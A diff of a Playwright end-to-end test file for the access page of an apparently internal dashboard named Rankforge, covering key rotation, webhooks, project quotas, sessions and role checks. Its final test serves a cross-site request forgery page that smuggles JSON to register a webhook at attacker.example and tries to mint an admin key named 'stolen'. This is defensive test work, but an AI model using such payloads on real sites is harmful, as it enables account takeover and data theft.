@@ -1,33 +1,18 @@
 /** @file Who may do what, in the page: keys made, rotated and revoked, a project made and bounded, and all of it written down. */
 import { randomUUID } from 'node:crypto';
-import { mkdir } from 'node:fs/promises';
 import { createServer } from 'node:http';
 import type { AddressInfo } from 'node:net';
 import { createKey } from '@rankforge/db';
-import type { Browser, Page, Route } from 'playwright-core';
-import { afterAll, beforeAll, expect, it } from 'vitest';
-import { createPlatform, type Platform, type TestApi } from '../support/index.js';
-import { launchBrowser, openPage, screenshots, signInByLink } from './dashboard-page.js';
+import type { Page, Route } from 'playwright-core';
+import { expect, it } from 'vitest';
+import { signInByLink } from './dashboard-page.js';
+import { createEmptyPlatform, openedDashboard } from './opened-dashboard.js';
 
-let platform: Platform;
-let api: TestApi;
-let browser: Browser;
-
-beforeAll(async () => {
-  await mkdir(screenshots, { recursive: true });
-  platform = await createPlatform();
-  api = await platform.hostApi();
-  browser = await launchBrowser();
-});
-
-afterAll(async () => {
-  await browser?.close();
-  await platform?.stop();
-});
+const on = openedDashboard(createEmptyPlatform);
 
 /** What a secret may do: the status of `GET /v1/me`, and its role. */
 async function me(secret: string): Promise<{ status: number; role?: string }> {
-  const response = await fetch(`${api.url}/v1/me`, { headers: { authorization: `Bearer ${secret}` } });
+  const response = await fetch(`${on.api.url}/v1/me`, { headers: { authorization: `Bearer ${secret}` } });
   const { role } = (await response.json()) as { role?: string };
   return response.ok ? { status: response.status, role: role! } : { status: response.status };
 }
@@ -42,8 +27,8 @@ async function secretOnce(page: Page, title: string): Promise<string> {
 }
 
 it('makes a key that works, rotates it with and without an overlap, and revokes it', async () => {
-  const { page, errors, close } = await openPage(browser, api.url);
-  await signInByLink(page, platform.keys.admin, '/access');
+  const { page, errors, close } = await on.openPage();
+  await signInByLink(page, on.platform.keys.admin, '/access');
   await page.getByRole('tab', { name: 'Keys' }).click();
   await page.getByRole('textbox', { name: 'New key' }).fill('nightly');
   await page.getByRole('combobox', { name: 'Role' }).click();
@@ -98,8 +83,8 @@ it('makes a key that works, rotates it with and without an overlap, and revokes 
 });
 
 it('shows a secret though its form is gone or was typed in before the answer came', async () => {
-  const { page, errors, close } = await openPage(browser, api.url);
-  await signInByLink(page, platform.keys.admin, '/access?tab=webhooks');
+  const { page, errors, close } = await on.openPage();
+  await signInByLink(page, on.platform.keys.admin, '/access?tab=webhooks');
   const held: Route[] = [];
   await page.route(/\/v1\/(webhooks|keys)(\/[\w-]+\/rotate)?$/, (route) =>
     route.request().method() === 'POST' ? void held.push(route) : route.continue(),
@@ -114,7 +99,9 @@ it('shows a secret though its form is gone or was typed in before the answer cam
   await answer();
   expect(await secretOnce(page, 'Signing secret')).not.toBe('');
   expect(await url.inputValue()).toBe('https://hooks.example/second');
-  expect((await platform.db.webhook.findMany()).map((webhook) => webhook.url)).toEqual(['https://hooks.example/first']);
+  expect((await on.platform.db.webhook.findMany()).map((webhook) => webhook.url)).toEqual([
+    'https://hooks.example/first',
+  ]);
 
   await page.getByRole('tab', { name: 'Keys' }).click();
   await page.getByRole('textbox', { name: 'New key' }).fill('left');
@@ -136,15 +123,15 @@ it('shows a secret though its form is gone or was typed in before the answer cam
   await answer();
   expect(await me(await secretOnce(page, 'New secret of left'))).toEqual({ status: 200, role: 'submitter' });
   expect(errors).toEqual([]);
-  await platform.db.webhook.deleteMany();
+  await on.platform.db.webhook.deleteMany();
   await close();
 });
 
 it('changes keys of every project for an admin of the installation', async () => {
-  const elsewhere = await platform.db.project.create({ data: { id: randomUUID(), name: 'elsewhere' } });
-  await createKey(platform.db, { name: 'far', role: 'viewer', projectId: elsewhere.id });
-  const { page, errors, close } = await openPage(browser, api.url);
-  await signInByLink(page, platform.keys.admin, '/access?tab=keys');
+  const elsewhere = await on.platform.db.project.create({ data: { id: randomUUID(), name: 'elsewhere' } });
+  await createKey(on.platform.db, { name: 'far', role: 'viewer', projectId: elsewhere.id });
+  const { page, errors, close } = await on.openPage();
+  await signInByLink(page, on.platform.keys.admin, '/access?tab=keys');
   await page.getByRole('button', { name: 'Rotate far' }).click();
   await page.getByRole('dialog', { name: 'Rotate far?' }).getByRole('button', { name: 'Rotate' }).click();
   expect(await me(await secretOnce(page, 'New secret of far'))).toEqual({ status: 200, role: 'viewer' });
@@ -157,8 +144,8 @@ it('changes keys of every project for an admin of the installation', async () =>
 });
 
 it('makes a project and gives it a quota, which the API then has', async () => {
-  const { page, errors, close } = await openPage(browser, api.url);
-  await signInByLink(page, platform.keys.admin, '/access');
+  const { page, errors, close } = await on.openPage();
+  await signInByLink(page, on.platform.keys.admin, '/access');
   const table = page.getByRole('table', { name: 'Projects' });
   await table.waitFor();
   await page.getByRole('textbox', { name: 'New project' }).fill('speech');
@@ -169,7 +156,7 @@ it('makes a project and gives it a quota, which the API then has', async () => {
   await quota.fill('3');
   await quota.blur();
   await row.getByText('0 of 3').waitFor();
-  const project = await platform.db.project.findFirstOrThrow({ where: { name: 'speech' } });
+  const project = await on.platform.db.project.findFirstOrThrow({ where: { name: 'speech' } });
   expect(project.maxRunningTrials).toBe(3);
 
   const changes: string[] = [];
@@ -198,17 +185,17 @@ it('makes a project and gives it a quota, which the API then has', async () => {
   await page.getByRole('textbox', { name: 'New project' }).fill('speech');
   await page.getByRole('button', { name: 'Make project' }).click();
   await page.getByText('Not done').waitFor();
-  expect(await platform.db.project.count({ where: { name: 'speech' } })).toBe(1);
+  expect(await on.platform.db.project.count({ where: { name: 'speech' } })).toBe(1);
 
   // Another admin's value is shown once it is read, and leaving the input does not undo it.
-  await platform.db.project.update({ where: { id: project.id }, data: { maxRunningTrials: 7 } });
+  await on.platform.db.project.update({ where: { id: project.id }, data: { maxRunningTrials: 7 } });
   await page.getByRole('button', { name: 'Make project' }).click();
   await row.getByText('0 of 7').waitFor();
   expect(await quota.inputValue()).toBe('7');
   await quota.focus();
   await quota.press('Enter');
   await quota.blur();
-  expect(await platform.db.project.findFirst({ where: { name: 'speech', maxRunningTrials: 7 } })).not.toBeNull();
+  expect(await on.platform.db.project.findFirst({ where: { name: 'speech', maxRunningTrials: 7 } })).not.toBeNull();
   expect(errors.filter((error) => !/(409.*\/v1\/projects|ERR_FAILED.*\/v1\/projects\/[\w-]+)$/.test(error))).toEqual(
     [],
   );
@@ -216,8 +203,8 @@ it('makes a project and gives it a quota, which the API then has', async () => {
 });
 
 it('asks before it deletes a webhook', async () => {
-  const { page, errors, close } = await openPage(browser, api.url);
-  await signInByLink(page, platform.keys.admin, '/access');
+  const { page, errors, close } = await on.openPage();
+  await signInByLink(page, on.platform.keys.admin, '/access');
   await page.getByRole('tab', { name: 'Webhooks' }).click();
   const url = 'https://hooks.example/rankforge';
   // The address has the tab, and a mistake stands beside its field.
@@ -234,35 +221,35 @@ it('asks before it deletes a webhook', async () => {
   await card.getByRole('button', { name: 'Delete' }).click();
   await question.getByRole('button', { name: 'Keep' }).click();
   await question.waitFor({ state: 'hidden' });
-  expect(await platform.db.webhook.count()).toBe(1);
+  expect(await on.platform.db.webhook.count()).toBe(1);
   await card.getByRole('button', { name: 'Delete' }).click();
   await question.getByRole('button', { name: 'Delete' }).click();
   await card.waitFor({ state: 'hidden' });
-  expect(await platform.db.webhook.count()).toBe(0);
+  expect(await on.platform.db.webhook.count()).toBe(0);
   expect(errors.filter((error) => !/400.*\/v1\/webhooks$/.test(error))).toEqual([]);
   await close();
 });
 
 it('leads to the sign-in page when a session ends, and back', async () => {
-  const { page, close } = await openPage(browser, api.url);
-  await signInByLink(page, platform.keys.viewer, '/standings?memoryBudgetMiB=64');
+  const { page, close } = await on.openPage();
+  await signInByLink(page, on.platform.keys.viewer, '/standings?memoryBudgetMiB=64');
   await page.getByText('Live', { exact: true }).waitFor();
-  await platform.db.session.deleteMany();
+  await on.platform.db.session.deleteMany();
   await page.getByRole('heading', { name: 'Sign in to Rankforge' }).waitFor();
-  await page.getByLabel('API key').fill(platform.keys.viewer);
+  await page.getByLabel('API key').fill(on.platform.keys.viewer);
   await page.getByRole('button', { name: 'Sign in', exact: true }).click();
   await page.getByText('Live', { exact: true }).waitFor();
-  expect(page.url()).toBe(`${api.url}/standings?memoryBudgetMiB=64`);
+  expect(page.url()).toBe(`${on.api.url}/standings?memoryBudgetMiB=64`);
   await close();
 });
 
 it('holds no stream of events while its tab is hidden', async () => {
-  const { page, errors, close } = await openPage(browser, api.url);
+  const { page, errors, close } = await on.openPage();
   let streams = 0;
   page.on('request', (request) => {
     if (request.url().includes('/v1/events')) streams += 1;
   });
-  await signInByLink(page, platform.keys.viewer);
+  await signInByLink(page, on.platform.keys.viewer);
   const live = page.getByText('Live', { exact: true });
   await live.waitFor();
   const become = (state: string) =>
@@ -282,8 +269,8 @@ it('holds no stream of events while its tab is hidden', async () => {
 });
 
 it('shows keys and the audit trail to admins alone', async () => {
-  const { page, errors, close } = await openPage(browser, api.url);
-  await signInByLink(page, platform.keys.submitter, '/access');
+  const { page, errors, close } = await on.openPage();
+  await signInByLink(page, on.platform.keys.submitter, '/access');
   await page.getByRole('table', { name: 'Projects' }).waitFor();
   expect(await page.getByRole('tab').allInnerTexts()).toEqual(['Projects']);
   expect(await page.getByRole('button', { name: 'Make project' }).count()).toBe(0);
@@ -292,37 +279,37 @@ it('shows keys and the audit trail to admins alone', async () => {
 });
 
 it('gives a program on another port of the host nothing to act with', async () => {
-  const { webhook, apiKey } = platform.db;
+  const { webhook, apiKey } = on.platform.db;
   const before = [await webhook.count(), await apiKey.count()];
   const cookies: string[] = [];
   const key = JSON.stringify({ name: 'stolen', role: 'admin', installation: true });
   const other = createServer((request, response) => {
     cookies.push(request.headers.cookie ?? '');
     response.setHeader('content-type', 'text/html').end(`<!doctype html>
-      <form method="post" action="${api.url}/v1/webhooks" enctype="text/plain">
+      <form method="post" action="${on.api.url}/v1/webhooks" enctype="text/plain">
         <input name='{"url": "https://attacker.example/", "events": ["sweep.completed"], "x": "' value='"}'>
       </form>
       <script>
-        fetch('${api.url}/v1/keys', { method: 'POST', mode: 'no-cors', credentials: 'include', body: '${key}' })
+        fetch('${on.api.url}/v1/keys', { method: 'POST', mode: 'no-cors', credentials: 'include', body: '${key}' })
           .finally(() => document.forms[0].submit());
       </script>`);
   });
   await new Promise<void>((resolve) => other.listen(0, '127.0.0.1', resolve));
-  const { page, close } = await openPage(browser, api.url);
-  await signInByLink(page, platform.keys.admin, '/access');
+  const { page, close } = await on.openPage();
+  await signInByLink(page, on.platform.keys.admin, '/access');
   await page.goto(`http://127.0.0.1:${(other.address() as AddressInfo).port}/`);
-  await page.waitForURL(`${api.url}/v1/webhooks`);
+  await page.waitForURL(`${on.api.url}/v1/webhooks`);
 
   // The browser did send the cookie of the session there. Whoever receives it may replay it as they like.
   const cookie = cookies.find((line) => line.includes('rankforge_session='))!;
   expect(cookie).not.toContain('rf_');
   for (const [method, body] of [['GET'], ['POST', key]] as const) {
     const headers = { cookie, 'sec-fetch-site': 'same-origin', 'content-type': 'application/json' };
-    const replayed = await fetch(`${api.url}/v1/keys`, { method, headers, ...(body ? { body } : {}) });
+    const replayed = await fetch(`${on.api.url}/v1/keys`, { method, headers, ...(body ? { body } : {}) });
     expect(replayed.status).toBe(401);
   }
   expect([await webhook.count(), await apiKey.count()]).toEqual(before);
-  await page.goto(`${api.url}/access`);
+  await page.goto(`${on.api.url}/access`);
   await page.getByRole('tab', { name: 'Keys' }).waitFor();
   await close();
   other.close();
